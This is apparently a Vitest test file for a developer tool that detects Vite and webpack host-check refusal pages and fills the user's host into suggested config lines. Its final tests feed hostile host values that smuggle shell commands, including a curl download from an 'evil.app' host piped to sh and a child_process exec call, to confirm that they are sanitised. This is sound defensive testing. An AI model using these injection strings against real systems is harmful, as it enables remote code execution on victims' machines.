import { runInNewContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { kindOf } from '@/lib/kinds/detect';
import { explain } from '@/lib/kinds/host-guard/explain';
import { VITE_HOST_CODE, WEBPACK_HOST_CODE } from '@/lib/kinds/host-guard/kind';
import { KINDS, PAGE_RULES } from '@/lib/kinds/registry';
import { judgePage, pageFailure } from '@/lib/signals/page-check';

const URL_ = 'http://devbox.test:5173/';
/** The page script as the page runs it, with a fake page instead of a DOM. */
const judge = (text: string) => judgePage(PAGE_RULES, 2000, 300, { url: URL_, text });

// What Vite 8.3 sends (vite/src/node/server/middlewares/hostCheck.ts), as a browser shows it.
const VITE_TEXT =
  'Blocked request. This host ("devbox.test") is not allowed.\nTo allow this host, add "devbox.test" to `server.allowedHosts` in vite.config.js.';

describe('host-guard', () => {
  it.each([
    [VITE_TEXT, VITE_HOST_CODE],
    ['Blocked request. This host ("x.lan") is not allowed.', VITE_HOST_CODE],
    ['Invalid Host header', WEBPACK_HOST_CODE],
    ['Invalid Host header\n', WEBPACK_HOST_CODE],
    // A page that quotes the message is not the refusal.
    ['Why do I get "Invalid Host header"?', null],
    ['My app. Blocked request. This host ("x") is not allowed.', null],
    ['', null],
    // Text before the refusal's own words is only whitespace.
    [`  \n${VITE_TEXT}`, VITE_HOST_CODE],
    // Longer than a refusal: an app, not judged.
    [`Invalid Host header${' '.repeat(2000)}`, null],
  ])('page text %j means %s', (text, code) => {
    expect(judge(text)).toEqual(code === null ? null : { url: URL_, code });
  });

  it('a short login page answers nothing but null: its text never leaves the page', () => {
    expect(judge('Sign in\nEmail\nPassword\nOne-time code: 482913\nForgot your password?')).toBeNull();
  });

  it('the answer is the verdict and the address, never page text', () => {
    const answer = judge(VITE_TEXT);
    expect(answer).toEqual({ url: URL_, code: VITE_HOST_CODE });
    expect(Object.keys(answer ?? {}).sort()).toEqual(['code', 'url']);
    expect(JSON.stringify(answer)).not.toMatch(/Blocked request|allowedHosts|vite\.config/);
  });

  it('the rules survive the trip into the page: plain JSON, every code one of a kind', () => {
    expect(JSON.parse(JSON.stringify(PAGE_RULES))).toEqual(PAGE_RULES);
    expect(PAGE_RULES.map((rule) => rule.code)).toEqual(
      expect.arrayContaining([VITE_HOST_CODE, WEBPACK_HOST_CODE]),
    );
    for (const rule of PAGE_RULES) expect(KINDS.some((kind) => kind.codes.includes(rule.code))).toBe(true);
  });

  it('runs on its own: serialised and rebuilt as executeScript does, it judges the same', () => {
    // Chrome and Firefox inject `func` from its source text: it must not close over anything in its module.
    // A fresh realm has none of this module's bindings: a closure over one would throw here.
    const rebuilt = runInNewContext(`(${judgePage.toString()})`) as typeof judgePage;
    expect(rebuilt(PAGE_RULES, 2000, 300, { url: URL_, text: VITE_TEXT })).toEqual({
      url: URL_,
      code: VITE_HOST_CODE,
    });
  });

  it.each([
    [
      { url: URL_, code: VITE_HOST_CODE },
      { url: URL_, code: VITE_HOST_CODE },
    ],
    // What the page script answers is checked: anything else is nothing.
    [{ url: URL_, code: 'Sign in to your bank' }, null],
    [{ url: 'javascript:alert(1)', code: VITE_HOST_CODE }, null],
    [{ url: `${URL_}${'a'.repeat(5000)}`, code: VITE_HOST_CODE }, null],
    [{ url: 42, code: VITE_HOST_CODE }, null],
    [{ url: URL_ }, null],
    [{ url: URL_, text: VITE_TEXT }, null],
    ['Invalid Host header', null],
    [null, null],
    [undefined, null],
  ])('the page answer %j is %j', (answer, expected) => {
    expect(pageFailure(answer)).toEqual(expected);
  });

  it.each([
    ['http://devbox.test:5173/', VITE_HOST_CODE, 'host-guard'],
    ['https://app.example.com/', WEBPACK_HOST_CODE, 'host-guard'],
    ['http://devbox.test:5173/', 'net::ERR_CONNECTION_REFUSED', null],
  ])('%s with %s is %s', (url, code, kind) => {
    expect(kindOf(new URL(url), code)).toBe(kind);
  });

  it("fills the user's own host into the config line of the server that refused it", () => {
    const input = { url: 'http://devbox.test:5173/a', host: 'devbox.test', port: 5173, scheme: 'http:' };
    expect(explain.checklist?.({ ...input, code: VITE_HOST_CODE })[0]).toEqual({
      key: 'kind.hostGuard.viteConfig',
      args: ['devbox.test'],
    });
    expect(explain.checklist?.({ ...input, code: WEBPACK_HOST_CODE })[0]).toEqual({
      key: 'kind.hostGuard.webpackConfig',
      args: ['devbox.test'],
    });
    expect(explain.summary({ ...input, host: '[fd00::1]', code: WEBPACK_HOST_CODE })).toEqual({
      key: 'kind.hostGuard.summaryWebpack',
      args: ['fd00::1'],
    });
    expect(explain.fix?.(input)?.url).toBe('http://localhost:5173/a');
  });

  // A crafted host could inject shell commands: the config and shell lines print only a DNS name or an
  // IPv4 address.
  it.each([
    ['devbox.test', 'devbox.test'],
    ['devbox.test.', 'devbox.test'],
    ['192.168.1.20', '192.168.1.20'],
    ['a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app', { key: 'kind.hostGuard.anyHost' }],
    ["x'];require('child_process').exec('id');['.test", { key: 'kind.hostGuard.anyHost' }],
    ['$(id).test', { key: 'kind.hostGuard.anyHost' }],
    ['[fd00::1]', { key: 'kind.hostGuard.anyHost' }],
  ])('the host %j goes into the lines as %j', (host, printed) => {
    const input = { url: 'http://x:5173/', host, port: 5173, scheme: 'http:' };
    const vite = explain.checklist?.({ ...input, code: VITE_HOST_CODE }) ?? [];
    const webpack = explain.checklist?.({ ...input, code: WEBPACK_HOST_CODE }) ?? [];
    expect(vite.slice(0, 2)).toEqual([
      { key: 'kind.hostGuard.viteConfig', args: [printed] },
      { key: 'kind.hostGuard.viteEnv', args: [printed] },
    ]);
    expect(webpack[0]).toEqual({ key: 'kind.hostGuard.webpackConfig', args: [printed] });
  });
});
